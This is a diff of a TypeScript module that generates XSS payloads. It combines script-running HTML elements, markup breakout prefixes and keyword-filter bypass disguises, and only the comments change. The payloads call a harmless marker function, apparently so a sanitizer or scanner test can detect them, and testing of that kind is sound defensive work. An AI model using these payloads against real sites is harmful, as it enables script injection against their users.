@@ -1,8 +1,8 @@
-/** Ways to smuggle a script into a page, each with a number that it tells when it runs. */
+/** XSS payloads, each with a number that it reports when it runs. */
 
 const CALLS = (name: number) => `window.ran('${name}')`;
 
-/** Elements that run something by themselves or by a mouse. */
+/** Elements that run code automatically or on mouse events. */
 const ELEMENTS: readonly ((run: string) => string)[] = [
   (run) => `<img src=x onerror="${run}">`,
   (run) => `<script>${run}</script>`,
@@ -30,9 +30,9 @@ const ELEMENTS: readonly ((run: string) => string)[] = [
   (run) => `<base href="javascript:/*"><a href="*/${run}//">x</a>`,
   (run) => `<b onpointerenter="${run}" onmouseover="${run}">x</b>`,
 ];
-/** Ways out of where the text was put. */
+/** Ways to break out of the surrounding markup. */
 const BEFORE = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '"/></p>'];
-/** Ways past a filter that looks for words. */
+/** Ways to bypass a filter that looks for keywords. */
 const DISGUISES: readonly ((html: string) => string)[] = [
   (html) => html,
   (html) => html.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
@@ -45,7 +45,7 @@ const DISGUISES: readonly ((html: string) => string)[] = [
   (html) => `&lt;b&gt;${html}`,
 ];
 
-/** The first so many; the first one is a plain picture. */
+/** The first `count` payloads; the very first is a plain image. */
 export const payloads = (count: number): string[] =>
   Array.from({ length: count }, (_, index) => {
     const element = ELEMENTS[index % ELEMENTS.length]!(CALLS(index));
